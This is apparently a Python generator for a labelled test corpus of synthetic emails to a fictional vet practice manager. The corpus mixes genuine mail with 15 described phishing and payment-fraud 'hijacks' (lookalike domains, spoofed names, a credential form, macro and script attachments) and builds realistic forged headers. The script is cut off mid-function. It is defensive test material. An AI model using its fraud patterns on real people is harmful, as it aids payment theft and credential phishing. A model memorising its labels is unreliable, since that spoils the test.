#!/usr/bin/env python3
# Usage: python3 docs/probe/make-probe-corpus-30.py OUT_DIR
#
# Probe mailbox "oliver": Oliver Bennett, practice manager of Fairburn Veterinary Group, Leeds (Microsoft 365 tenant
# fairburnvets.example; Outlook desktop, iPhone Mail on the move). British English. Sept 2024 - June 2025, Europe/London (GMT/BST).
# Correspondents, each with a fixed fingerprint (Message-ID shape, client headers, Received path, DKIM d=/s=, quote style):
#   Pennine Veterinary Supplies (wholesaler, on-prem Exchange 2016, no DKIM): Rachel Dawson, then Tom Birch (handover Jan 2025), credit control
#   Northway Animal Health (wholesaler, on-prem Exchange 2019 behind Mimecast, d=northway-ah.example s=mimecast20190104): Gareth Lloyd, AR
#   York Vet Locums (Gmail web, d=gmail.com): Sophie Marsh, later Ellie Grant
#   Harewood Property Management (landlord's agent, M365 Outlook, s=selector1): Daniel Crowther; DocuSign envelopes (docusign.net)
#   Kirkstall & Moor accountants (M365 Outlook, s=selector2): Priya Sharma; Xero invoice mail via Amazon SES (d=post.xero.com)
#   Vetrix (practice-management software) support via Zendesk (out-41.smtp.zendesk.com, d=vetrix.example s=zendesk1)
#   Dalesure Insurance Brokers (M365 Outlook): Helen Firth
#   Staff on personal mail: Chloe Atkinson (hotmail.co.uk, Outlook for iOS), Mark Whitaker (btinternet.com webmail)
#   Internal: James Fairburn (clinical director), Hannah Moss (head nurse) - intra-tenant delivery
#   RCVS Knowledge digest (Mailchimp, list headers), GoCardless direct-debit notices
# Writes OUT_DIR/labels.tsv, OUT_DIR/scenarios.tsv and OUT_DIR/mailboxes/oliver/{INBOX,Sent}/N.eml (arrival order across both folders).
# Deterministic (random.Random(30)); no network; attachments inert but structurally real (zip, PDF, OOXML, ISO).
#
# Threads: O1..On routine wholesaler orders (weekly, alternating Pennine/Northway); T1 Pennine statements + handover; T1b Pennine bank
#   change (verified by phone); T2 Pennine damaged vaccines / credit note; T3 Northway fridge excursion; T4 Northway price list;
#   T5 locum bookings; T6 lease renewal; T6o service charge reconciliation; T7 accountant VAT + Xero invoices; Vetrix tickets 88214/90177;
#   T9 insurer renewal/claim; T9f director's forward; T10 Christmas raffle; T11 Chloe rota; T12 Mark payslip; T13 nursing rota;
#   plus newsletters, GoCardless notices, Xero invoice notifications, a Northway AR orphan and three stranger "replies".
#
# Hijacks (15):
#   A1  T2   server-hijack      Pennine's real Exchange: "remittance" .htm with credential form, short, ignores the vaccine context
#   A2  T5   account-takeover   locum agency Gmail via SMTP+PHPMailer from a foreign IP: pay locum's invoice to a new sort code, no payload
#   A3  T7   lookalike-domain   kirkstalImoor (l->I): fake Xero pay link in-xero.invoice-pay.example, quotes the real thread
#   A4  T10  display-name-spoof "James Fairburn" on Gmail (iPhone): Amazon gift cards, no quote
#   A5  T6   account-takeover   landlord agent's real M365 account via OWA at 04:37 from a foreign IP: "DocuSign" memo on a SharePoint/OneDrive link
#   A6  --   fake-thread        "RE: Delivery exception" redelivery-fee link, fabricated quote of Oliver
#   A7  T3   server-hijack      Northway Exchange/Mimecast: password-protected zip (password in text) holding a .js, generic text
#   A8  --   server-hijack      Vetrix's real Zendesk: revives a solved ticket, remote-access agent from an unknown domain
#   A9  T9   server-hijack      insurer's real M365 account: macro-enabled .docm "settlement schedule", quotes the thread
#   A10 T7   server-hijack      accountant's real M365 account: HMRC VAT query PDF with link, no quote, no signature
#   A11 T12  account-takeover   staff BT account via eM Client from a foreign IP at 02:14: payroll bank change, no payload
#   A12 T1   lookalike-domain   pennine-vetsuppiles: long context-aware bank change referring to the real letter, PDF, discourages calls
#   A13 T6o  display-name-spoof "Daniel Crowther" on outlook.com: voicemail SVG with link
#   A14 --   fake-thread        stranger invoice chaser "RE: RE: Outstanding statement", .img disk image
#   A15 --   fake-thread        "Re: MFA re-enrolment" with an .ics invite carrying a link
#
# Genuine hard cases (30):
#   G1  T1  Pennine statement PDF                          G2  T4  Northway revised xlsx price list
#   G3  T13 colleague's SharePoint link (thread always had them)  G4  T1  new Pennine account manager's first mail (introduced)
#   G5  T5  locum agency new phone number                  G6  T5  locum contact from Gmail iPhone app at 23:41
#   G7  T1b Pennine genuine bank-change letter (verify by phone)  G8  T1b first statement with the verified new details
#   G9  T6o landlord agent out-of-office                   G10 T7  accountant out-of-office
#   G11 --  RCVS newsletter (list headers, tracking links) G12 --  second RCVS newsletter
#   G13 --  GoCardless collection notice                   G14 --  GoCardless mandate-updated notice (creditor change)
#   G15 --  Xero invoice with genuine pay link             G16 --  Xero overdue reminder
#   G17 --  Vetrix ticket update: vendor's own remote tool on its own domain   G18 --  Zendesk solved/satisfaction survey
#   G19 T9f director forwards renewal PDF (FW:)            G20 T6o thread revived after 5 months (service-charge credit)
#   G21 T11 staff reply from phone at 23:40                G22 T3  zipped logger CSVs Oliver requested
#   G23 T6  genuine DocuSign envelope announced in thread  G24 T9  insurer's claim form PDF requested
#   G25 T7  accountant's ShareFile link (portal used)      G26 T11 staff member's new phone (iPhone Mail instead of Outlook for iOS)
#   G27 T5  locum agency's new colleague sends her first invoice   G28 T12 staff bank change done on paper (no details in mail)
#   G29 T4  account manager from his iPhone at night       G30 T10 director's real internal request for raffle vouchers
# Genuine orphans (2): O1 Northway AR reply to the accounts@ mailbox's remittance (Oliver Cc'd); O2 Vetrix reply to a web-form ticket.
# Plain genuine replies: every other labelled in-thread partner reply (genuine-reply).
# Totals: 261 messages; 95 labelled = 15 hijacks + 30 genuine-hard + 2 genuine-orphan + 48 genuine-reply.
import base64, datetime, hashlib, io, os, quopri, random, struct, sys, uuid, zipfile, zlib
from zoneinfo import ZoneInfo

root = sys.argv[1]
MB = "oliver"
for f in ("INBOX", "Sent"): os.makedirs(f"{root}/mailboxes/{MB}/{f}", exist_ok=True)
R = random.Random(30)
LON = ZoneInfo("Europe/London"); UTC = datetime.timezone.utc; LAX = ZoneInfo("America/Los_Angeles"); NYC = ZoneInfo("America/New_York")


def hx(k): return "".join(R.choice("0123456789abcdef") for _ in range(k))
def HX(k): return hx(k).upper()
def rbytes(k): return bytes(R.getrandbits(8) for _ in range(k))
def ruuid(): return str(uuid.UUID(int=R.getrandbits(128), version=4))
def alnum(k): return "".join(R.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(k))
def b64(k): return base64.b64encode(rbytes(k)).decode()
def at(y, mo, d, h, mi, tz=LON): return datetime.datetime(y, mo, d, h, mi, R.randint(0, 59), tzinfo=tz)
def later(t, mins): return t + datetime.timedelta(minutes=mins, seconds=R.randint(0, 59))


class Pt:
    def __init__(s, name, email, client, infra, sig="", tz=LON):
        s.name, s.email, s.client, s.infra, s.sig, s.tz = name, email, client, infra, sig, tz
        s.dom = email.split("@")[1]


OWN = "fairburnvets.example"
SIG_ME = ("\n\nKind regards\n\nOliver Bennett\nPractice Manager\nFairburn Veterinary Group\n"
          "Roundhay Road, Leeds LS8 4AB | 0113 496 0711\nwww.fairburnvets.example")
me = Pt("Oliver Bennett", f"oliver.bennett@{OWN}", "exo", "own", SIG_ME)
james = Pt("James Fairburn", f"james.fairburn@{OWN}", "exo", "own",
           "\n\nJames Fairburn BVSc MRCVS\nClinical Director\nFairburn Veterinary Group")
hannah = Pt("Hannah Moss", f"hannah.moss@{OWN}", "exo", "own",
            "\n\nHannah Moss RVN\nHead Nurse | Fairburn Veterinary Group (Roundhay)")
accounts_int = Pt("Fairburn Accounts", f"accounts@{OWN}", "exo", "own")
# wholesalers
rachel = Pt("Rachel Dawson", "rachel.dawson@pennine-vetsupplies.example", "ex16", "ex16-pennine",
            "\n\nRegards\nRachel Dawson\nCustomer Accounts - Yorkshire\nPennine Veterinary Supplies Ltd\nUnit 9, Lowfields Business Park, Elland HX5 9DA\nT: 01422 555 310")
tom = Pt("Tom Birch", "tom.birch@pennine-vetsupplies.example", "ex16", "ex16-pennine",
         "\n\nRegards\nTom Birch\nCustomer Accounts - Yorkshire\nPennine Veterinary Supplies Ltd\nUnit 9, Lowfields Business Park, Elland HX5 9DA\nT: 01422 555 318")
pennine_cc = Pt("Pennine Credit Control", "creditcontrol@pennine-vetsupplies.example", "ex16", "ex16-pennine",
                "\n\nJoanne Pickles\nCredit Controller\nPennine Veterinary Supplies Ltd\nT: 01422 555 300 (option 3)")
gareth = Pt("Gareth Lloyd", "gareth.lloyd@northway-ah.example", "ex19", "mimecast-northway",
            "\n\nBest regards,\n\nGareth Lloyd\nTerritory Account Manager - North East\nNorthway Animal Health plc\nM: 07700 900 412\n\n"
            "Northway Animal Health plc is registered in England No. 04417722. This e-mail is confidential.")
northway_cc = Pt("Northway Accounts Receivable", "ar@northway-ah.example", "ex19", "mimecast-northway",
                 "\n\nAccounts Receivable\nNorthway Animal Health plc | 0330 555 0190")
# locum agency on Gmail
sophie = Pt("Sophie Marsh", "sophie.yorklocums@gmail.com", "gmail", "gmail",
            "\n\nThanks,\nSophie Marsh\nYork Vet Locums\n07700 900 233\n\"Covering the North since 2012\"")
# landlord's agent
daniel = Pt("Daniel Crowther", "d.crowther@harewood-pm.example", "exo", "exo-harewood",
            "\n\nKind Regards\n\nDaniel Crowther MRICS\nProperty Manager\nHarewood Property Management\n"
            "2 Park Square East, Leeds LS1 2NE | 0113 496 0455")
# accountant + xero
priya = Pt("Priya Sharma", "priya@kirkstallmoor.example", "exo", "exo-kirkstall",
           "\n\nMany thanks,\nPriya Sharma FCCA\nClient Manager\nKirkstall & Moor Chartered Accountants\n0113 496 0820 | kirkstallmoor.example")
xero = Pt("Kirkstall & Moor Chartered Accountants", "messaging-service@post.xero.com", "xero", "xero")
# PMS vendor support (Zendesk-style)
vetrix = Pt("Vetrix Support", "support@vetrix.example", "zendesk", "zendesk")
# insurer
helen = Pt("Helen Firth", "helen.firth@dalesure.example", "exo", "exo-dalesure",
           "\n\nKind regards\nHelen Firth Cert CII\nAccount Executive - Veterinary Practices\nDalesure Insurance Brokers Ltd\nDD: 01904 555 271\n"
           "Dalesure Insurance Brokers Ltd is authorised and regulated by the Financial Conduct Authority.")
# staff on personal mail
chloe = Pt("Chloe Atkinson", "chloe.atkinson85@hotmail.co.uk", "outlookios", "hotmail",
           "\n\nChloe x\n\nGet Outlook for iOS<https://aka.ms/o0ukef>")
mark = Pt("Mark Whitaker", "m.whitaker@btinternet.com", "bt", "bt", "\n\nMark")
# notifications
rcvs = Pt("RCVS Knowledge Digest", "digest@news.rcvs-knowledge.example", "mailchimp", "mailchimp")
gc = Pt("GoCardless", "help@gocardless.com", "gocardless", "gocardless")
docusign = Pt("Daniel Crowther via DocuSign", "dse_EU@docusign.net", "docusign", "docusign")

# helo, ip, dkim d, dkim s (None = unsigned), envelope-from (None = From), dmarc policy
INFRA = {
    "own": None,
    "ex16-pennine": ("mail.pennine-vetsupplies.example", "81.136.92.18", None, None, None, None),
    "mimecast-northway": ("eu-smtp-delivery-151.mimecast.com", "185.58.86.151", "northway-ah.example", "mimecast20190104", None, "quarantine"),
    "gmail": ("mail-wm1-f54.google.com", "209.85.128.54", "gmail.com", "20230601", None, "none"),
    "exo-harewood": ("mail-lo2gbr01on2107.outbound.protection.outlook.com", "40.107.10.107", "harewood-pm.example", "selector1", None, "none"),
    "exo-kirkstall": ("mail-cwlgbr01on2091.outbound.protection.outlook.com", "40.107.11.91", "kirkstallmoor.example", "selector2", None, "quarantine"),
    "exo-dalesure": ("mail-lo4gbr01on2119.outbound.protection.outlook.com", "40.107.24.119", "dalesure.example", "selector1", None, "reject"),
    "xero": ("a10-33.smtp-out.eu-west-1.amazonses.com", "54.240.10.33", "post.xero.com", "xero2021", "0102019{x}@eu-west-1.amazonses.post.xero.com", "reject"),
    "zendesk": ("out-41.smtp.zendesk.com", "192.161.148.41", "vetrix.example", "zendesk1", "support+id{x}@vetrix.zendesk.com", "none"),
    "hotmail": ("EUR03-DBA-obe.outbound.protection.outlook.com", "52.101.65.30", "hotmail.co.uk", "selector1", None, "none"),
    "bt": ("sa-prd-fep-047.btinternet.com", "40.101.156.47", "btinternet.com", "btmx201904", None, "none"),
    "mailchimp": ("mail38.suw121.mcdlv.net", "198.2.140.38", "news.rcvs-knowledge.example", "k1", "bounce-mc.us4_{x}@mail38.suw121.mcdlv.net", "none"),
    "gocardless": ("o2.email.gocardless.com", "167.89.33.12", "gocardless.com", "s1", "bounces+{x}@email.gocardless.com", "reject"),
    "docusign": ("mailfr.eu.docusign.net", "185.81.100.60", "docusign.net", "s1", None, "reject"),
    # attackers
    "vps-gmail": ("mail-ed1-f43.google.com", "209.85.208.43", "gmail.com", "20230601", None, "none"),
    "look-kirk": ("mail.kirkstalImoor.example", "91.215.85.17", "kirkstalImoor.example", "default", None, None),
    "look-pennine": ("mx1.pennine-vetsuppiles.example", "45.140.146.20", "pennine-vetsuppiles.example", "mail", None, None),
    "outlookcom": ("EUR02-VI1-obe.outbound.protection.outlook.com", "52.101.70.113", "outlook.com", "selector1", None, "none"),
    "bulk1": ("vps-31-4-208-77.hosted.example", "31.4.208.77", None, None, None, None),
    "bulk2": ("host-194-87-41-9.cheapvps.example", "194.87.41.9", "trackparcel-uk.example", "x", None, None),
    "bulk3": ("mta2.lakelandmarquees.example", "212.48.77.140", "lakelandmarquees.example", "default", None, "none"),
}
OWN_HOST = "LO2P265MB5218"
EXO_HOST = {"harewood-pm.example": ("CWXP265MB3391", "GBRP265"), "kirkstallmoor.example": ("LO4P123MB6602", "GBRP123"),
            "dalesure.example": ("DB9PR08MB7714", "eurprd08"), OWN: (OWN_HOST, "GBRP265"), "hotmail.co.uk": ("DB7PR04MB4875", "eurprd04"),
            "outlook.com": ("AS8P189MB1264", "EURP189")}
TENANT = {"harewood-pm.example": ruuid(), "kirkstallmoor.example": ruuid(), "dalesure.example": ruuid(), OWN: ruuid()}
EXCH = {"pennine-vetsupplies.example": ("PVS-EXCH01", "pennine.local", "192.168.20.11", "15.1.2507.44"),
        "northway-ah.example": ("NWAH-MBX02", "northway.corp", "10.40.2.22", "15.2.1544.14")}


def rfc(t, tz=None): return (t.astimezone(tz) if tz else t).strftime("%a, %d %b %Y %H:%M:%S %z")
def rfcu(t): return t.astimezone(UTC).strftime("%a, %-d %b %Y %H:%M:%S +0000")
def pac(t): return t.astimezone(LAX).strftime("%a, %d %b %Y %H:%M:%S %z (%Z)")


def make_mid(who, client, t):
    if client in ("gmail", "gmailios"): return "<CA" + base64.urlsafe_b64encode(rbytes(42)).decode()[:R.choice((52, 54, 55))] + "@mail.gmail.com>"
    if client in ("exo", "owa", "outlookios", "outlookcom"):
        host, reg = EXO_HOST[who.dom]; return f"<{host}{HX(16)}@{host}.{reg}.PROD.OUTLOOK.COM>" if reg.startswith("GBR") else f"<{host}{HX(16)}@{host}.{reg}.prod.outlook.com>"
    if client in ("ex16", "ex19"):
        srv, ad, _, _ = EXCH[who.dom]; return f"<{hx(32)}@{srv}.{ad}>"
    if client in ("iphone",): return f"<{ruuid().upper()}@{who.dom}>"
    if client == "bt": return f"<{R.randint(10**8, 10**9)}.{R.randint(1000, 9999)}.{int(t.timestamp() * 1000)}@btinternet.com>"
    if client == "zendesk": return f"<{alnum(5).upper()}{alnum(7).upper()}_{hx(8)}_sprut@zendesk.com>"
    if client == "xero": return f"<0102019{hx(9)}-{ruuid()}-000000@eu-west-1.amazonses.com>"
    if client == "mailchimp": return f"<{hx(20)}.{hx(20)}@mail38.suw121.mcdlv.net>"
    if client == "gocardless": return f"<{alnum(22)}@geopod-ismtpd-{R.randint(1, 40)}>"
    if client == "docusign": return f"<{hx(32)}@docusign.net>"
    if client == "thunderbird": return f"<{ruuid()}@{who.dom}>"
    if client == "phpmailer": return f"<{alnum(32)}@{who.dom}>"
    return f"<{hx(24)}@{who.dom}>"


def _lines(text, pfx="> "): return "\n".join(pfx + l if l else pfx.rstrip() for l in text.split("\n"))


def quote_of(client, q):
    t = q["t"].astimezone(LON); name, email = q["name"], q["email"]
    if client in ("gmail", "gmailios"):
        return f"\n\nOn {t:%a}, {t.day} {t:%b} {t.year} at {t:%H:%M}, {name} <{email}> wrote:\n\n" + _lines(q["plain"])
    if client in ("exo", "owa", "ex16", "ex19", "outlookcom", "outlookios"):
        tos = "; ".join(f"{n} <{e}>" for n, e in q["to"])
        rows = [("From", f"{name} <{email}>"), ("Sent", f"{t:%d} {t:%B} {t.year} {t:%H:%M}" if client == "exo" else f"{t:%A}, {t.day} {t:%B} {t.year} {t:%H:%M}"), ("To", tos)]
        if q["cc"]: rows.append(("Cc", "; ".join(f"{n} <{e}>" for n, e in q["cc"])))
        rows.append(("Subject", q["subj"]))
        sep = "________________________________\n" if client in ("owa", "outlookcom", "outlookios") else ""
        return "\n\n" + sep + "\n".join(f"{k}: {v}" for k, v in rows) + "\n\n" + q["plain"]
    if client == "iphone": return f"\n\n> On {t.day} {t:%b} {t.year}, at {t:%H:%M}, {name} <{email}> wrote:\n> \n" + _lines(q["plain"])
    if client == "bt": return f"\n\n------ Original Message ------\nFrom: {name} <{email}>\nTo: {q['to'][0][1]}\nSent: {t:%A, %B} {t.day}th, {t.year}, {t:%H:%M}\nSubject: {q['subj']}\n\n" + q["plain"]
    if client == "thunderbird": return f"\n\nOn {t:%d/%m/%Y} {t:%H:%M}, {name} wrote:\n" + _lines(q["plain"])
    return "\n\n" + _lines(q["plain"])


def esc(s): return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def html_of(client, plain):
    e = esc(plain).replace("\n", "<br>\n")
    if client in ("exo", "ex16", "ex19", "owa", "outlookcom", "outlookios"):
        return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" '
                'xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
                '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n@font-face\n\t{font-family:Aptos;}\np.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0cm;\n\tfont-size:11.0pt;\n\tfont-family:"Aptos",sans-serif;}\n--></style>\n</head>\n<body lang="EN-GB" '
                'link="#467886" vlink="#96607D" style="word-wrap:break-word">\n<div class="WordSection1">\n<p class="MsoNormal">' + e + "</p>\n</div>\n</body>\n</html>") \
            if client != "outlookios" else ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body><div dir="auto">' + e + "</div></body></html>")
    if client in ("gmail", "gmailios"): return '<div dir="ltr">' + e + "</div>\n"
    if client == "iphone": return '<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body dir="auto"><div dir="ltr">' + e + "</div></body></html>"
    if client == "bt": return '<html><head></head><body><div style="font-family: Arial; font-size: 10pt;">' + e + "</div></body></html>"
    if client == "zendesk":
        return ('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN"><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
                '<body style="font-size:14px;font-family:\'Lucida Grande\',Verdana,Arial,sans-serif"><div style="color:#b5b5b5">##- Please type your reply above this line -##</div><p dir="ltr">'
                + e + "</p></body></html>")
    return None


def sender_hops(who, infra, t, env, client, orig_ip=None):
    hops = []
    if infra.startswith("exo") or infra in ("hotmail", "outlookcom"):
        host, reg = EXO_HOST[who.dom]; dom = f"{reg}.PROD.OUTLOOK.COM" if reg.startswith("GBR") else f"{reg}.prod.outlook.com"
        host2 = host[:-4] + str(R.randint(1000, 9999))
        if client == "owa-foreign":
            hops.append(("Received", f"from {host}.{dom} ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}]) by {host}.{dom}\n ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}%6]) with mapi id 15.20.8769.021; {rfcu(t)}"))
        else:
            hops.append(("Received", f"from {host}.{dom} ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}]) by {host}.{dom}\n ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}%5]) with mapi id 15.20.8769.021; {rfcu(t)}"))
        hops.insert(0, ("Received", f"from {host}.{dom} (2603:10a6:{hx(3)}:{hx(2)}::{hx(2)}) by\n {host2}.{dom} (2603:10a6:{hx(3)}:{hx(2)}::{hx(1)})"
                                    f" with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8769.021; {rfcu(t + datetime.timedelta(seconds=1))}"))
    elif infra == "ex16-pennine":
        srv, ad, lan, ver = EXCH[who.dom]
        hops.append(("Received", f"from {srv}.{ad} ({lan}) by {srv}.{ad}\n ({lan}) with Microsoft SMTP Server (version=TLS1_2,\n"
                                 f" cipher=TLS_ECDHE_RSA_WITH_AES_256_CBC_SHA384_P384) id {ver}; {rfc(t, LON)}"))
        hops.insert(0, ("Received", f"from {srv}.{ad} ({lan}) by mail.pennine-vetsupplies.example\n ({lan}) with Microsoft SMTP Server (version=TLS1_2,\n"
                                    f" cipher=TLS_ECDHE_RSA_WITH_AES_256_CBC_SHA384_P384) id {ver} via Frontend Transport; {rfc(t + datetime.timedelta(seconds=1), LON)}"))
    elif infra == "mimecast-northway":
        srv, ad, lan, ver = EXCH[who.dom]
        hops.append(("Received", f"from {srv}.{ad} ({lan}) by {srv}.{ad}\n ({lan}) with Microsoft SMTP Server (version=TLS1_2,\n"
                                 f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ver}; {rfc(t, LON)}"))
        hops.insert(0, ("Received", f"from {srv}.{ad} (mail.northway-ah.example [195.12.33.{R.randint(40, 44)}]) by\n relay.mimecast.com with ESMTP with both STARTTLS and AUTH (version=TLSv1.2,\n"
                                    f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id uk-mta-{R.randint(10, 99)}-{alnum(22)}-1;\n {rfc(t + datetime.timedelta(seconds=2), UTC)}"))
    elif infra in ("gmail", "vps-gmail"):
        if client == "gmail":
            hops.append(("Received", f"by 2002:a05:6402:{hx(3)}:b0:{hx(3)}:{hx(4)}:{hx(4)} with HTTP; {pac(t)}"))
        elif client == "gmailios":
            hops.append(("Received", f"by 2002:a05:6402:{hx(3)}:b0:{hx(3)}:{hx(4)}:{hx(4)} with HTTP; {pac(t)}"))
        else:
            hops.append(("Received", f"from [{orig_ip}] ({orig_ip})\n        by smtp.gmail.com with ESMTPSA id {hx(16)}sm{R.randint(1000000, 9999999)}.{R.randint(10, 99)}.{t.year}.{R.randint(10, 99)}.{R.randint(10, 99)}\n"
                                     f"        for <{me.email}>\n        (version=TLS1_2 cipher=ECDHE-ECDSA-AES128-GCM-SHA256 bits=128/128);\n        {pac(t)}"))
        hops.insert(0, ("X-Received", f"by 2002:a17:907:{hx(4)}:b0:{hx(3)}:{hx(4)}:{hx(4)} with SMTP id {alnum(20).lower()}.{R.randint(10, 99)}.{int(t.timestamp())}{R.randint(100, 999)};\n        {pac(t)}"))
    elif infra == "bt":
        ip = orig_ip or f"86.{R.choice((128, 129, 131))}.{R.randint(1, 250)}.{R.randint(1, 250)}"
        hops.append(("Received", f"from webmail-prd-{R.randint(10, 30)}.btinternet.com ([{ip}])\n          by sa-prd-fep-047.btinternet.com with ESMTPA\n          "
                                 f"id <20{t:%y%m%d%H%M%S}.{HX(6)}.sa-prd-fep-047@btinternet.com>\n          for <{me.email}>;\n          {rfc(t, UTC)}"))
    elif infra == "zendesk":
        hops.append(("Received", f"from zendesk.com (unknown [10.219.{R.randint(1, 250)}.{R.randint(1, 250)}])\n\tby out-41.smtp.zendesk.com (Postfix) with ESMTP id 4Y{alnum(8)}\n\tfor <{me.email}>; {rfc(t, UTC)}"))
    elif infra == "xero":
        hops.append(("Received", f"from ip-10-42-{R.randint(1, 250)}-{R.randint(1, 250)}.eu-west-1.compute.internal by email-smtp.eu-west-1.amazonaws.com with SMTP id {alnum(20)};\n {rfc(t, UTC)}"))
    elif infra.startswith("look") or infra.startswith("bulk"):
        hops.append(("Received", f"from [{orig_ip or '185.244.' + str(R.randint(1, 250)) + '.' + str(R.randint(2, 250))}] (port={R.randint(50000, 65000)} helo=DESKTOP-{HX(7)})\n\tby {INFRA[infra][0]} with esmtpsa (TLS1.3) tls TLS_AES_256_GCM_SHA384\n"
                                 f"\t(Exim 4.97)\n\t(envelope-from <{env}>)\n\tid 1u{alnum(4)}-000{alnum(3)}-{alnum(2)}\n\tfor {me.email}; {rfc(t, UTC)}"))
    return hops


def transport(who, t, env=None, infra=None, client=None, orig_ip=None):
    """headers written on Oliver's Microsoft 365 tenant (EOP) and the sender's side, top first"""
    infra = infra or who.infra
    helo, ip, d, s, envfmt, dmarc = INFRA[infra]
    env = env or (envfmt.replace("{x}", hx(10)) if envfmt else who.email)
    envdom = env.split("@")[1]
    fromdom = who.email.split("@")[1] if "@" in who.email else who.dom
    tmx = t + datetime.timedelta(seconds=R.randint(2, 14))
    fe = f"LO{R.randint(1, 4)}PEPF0000{HX(5)}"
    ar = f"spf=pass (sender IP is {ip})\n smtp.mailfrom={envdom}; " + (f"dkim=pass (signature was verified)\n header.d={d};" if s else "dkim=none (message not signed)\n header.d=none;")
    if dmarc: ar += f"dmarc=pass action=none\n header.from={fromdom};compauth=pass reason=100"
    elif s and d == fromdom: ar += f"dmarc=bestguesspass action=none\n header.from={fromdom};compauth=pass reason=109"
    else: ar += f"dmarc=none action=none\n header.from={fromdom};compauth=pass reason=" + ("109" if not infra.startswith(("look", "bulk")) else "116")
    top = [("Received", f"from {fe}.GBRP265.PROD.OUTLOOK.COM (2603:10a6:600:{hx(3)}::{hx(2)}) by\n {OWN_HOST}.GBRP265.PROD.OUTLOOK.COM (2603:10a6:600:{hx(3)}::{hx(2)}) with Microsoft SMTP Server\n"
                        f" (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8769.021; {rfcu(tmx + datetime.timedelta(seconds=1))}"),
           ("Received", f"from CWLP123CA00{R.randint(10, 99)}.GBRP123.PROD.OUTLOOK.COM\n (2603:10a6:401:{hx(2)}::{hx(2)}) by {fe}.GBRP265.PROD.OUTLOOK.COM\n"
                        f" (2603:10a6:60f:{hx(4)}::{hx(2)}) with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8769.021; {rfcu(tmx)}"),
           ("Authentication-Results", ar),
           ("Received-SPF", f"Pass (protection.outlook.com: domain of {envdom} designates\n {ip} as permitted sender) receiver=protection.outlook.com;\n client-ip={ip}; helo={helo}; pr=C"),
           ("Received", f"from {helo} ({ip}) by\n CWLP123CA00{R.randint(10, 99)}.mail.protection.outlook.com (10.167.{R.randint(200, 250)}.{R.randint(1, 250)}) with Microsoft SMTP Server\n"
                        f" (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id 15.20.8769.021 via Frontend Transport; {rfcu(tmx)}")]
    hops = sender_hops(who, infra, t, env, client, orig_ip)
    dk = []
    if s:
        dk = [("DKIM-Signature", f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={d}; s={s};\n\tt={int(t.timestamp())}; bh={b64(32)};\n"
                                 f"\th=From:To:Subject:Date:Message-ID:Content-Type:MIME-Version;\n\tb={b64(180)}")]
    tail = [("X-MS-Exchange-Organization-ExpirationStartTime", f"{tmx.astimezone(UTC):%d %b %Y %H:%M:%S.%f}"[:-3] + " (UTC)"),
            ("X-MS-Exchange-Organization-Network-Message-Id", ruuid()),
            ("X-MS-Exchange-Organization-AuthSource", f"{fe}.GBRP265.PROD.OUTLOOK.COM"),
            ("X-MS-Exchange-Organization-AuthAs", "Anonymous"),
            ("X-MS-Exchange-Organization-SCL", "1"),
            ("Return-Path", env)]
    return top + hops + dk, tail


def internal_top(who, t):
    """intra-tenant delivery (colleagues on the same Microsoft 365 tenant)"""
    return [("Received", f"from {OWN_HOST}.GBRP265.PROD.OUTLOOK.COM ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}]) by\n {OWN_HOST}.GBRP265.PROD.OUTLOOK.COM ([fe80::{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}%4]) with\n mapi id 15.20.8769.021; {rfcu(t)}")], \
           [("X-MS-Exchange-Organization-AuthAs", "Internal"), ("X-MS-Exchange-Organization-AuthSource", f"{OWN_HOST}.GBRP265.PROD.OUTLOOK.COM"),
            ("X-MS-Exchange-Organization-SCL", "-1"), ("X-MS-Exchange-Organization-Network-Message-Id", ruuid()), ("Return-Path", who.email)]


UA = {"iphone": ("X-Mailer", "iPhone Mail (22D72)"), "bt": ("X-Mailer", "BT Mail (Synchronoss webmail) 9.4"), "zendesk": ("X-Mailer", "Zendesk Mailer"),
      "thunderbird": ("User-Agent", "Mozilla Thunderbird"), "phpmailer": ("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"),
      "emclient": ("User-Agent", "eM_Client/10.0.3530.0")}
MSC = ("exo", "owa", "ex16", "ex19", "outlookcom", "outlookios", "owa-foreign")
pending = []; seq = [0]


def addr(n, e):
    if not n: return e
    return f'"{n}" <{e}>' if any(c in n for c in ".,|()@&") else f"{n} <{e}>"


def enc_h(v): return v if v.isascii() else "=?utf-8?B?" + base64.b64encode(v.encode()).decode() + "?="


def emit(who, client, t, to, cc, subj, refs, plain, html=None, atts=(), extra=(), label=None, infra=None, env=None, frm=None,
         irt=None, mid=None, tidx=None, topic=None, scen=None, orig_ip=None, folder=None, no_html=False, mid_client=None):
    m = mid or make_mid(who, mid_client or client, t)
    own = who.dom == OWN and (infra is None)
    folder = folder or ("Sent" if who is me else "INBOX")
    h, tail = [], []
    if folder == "INBOX":
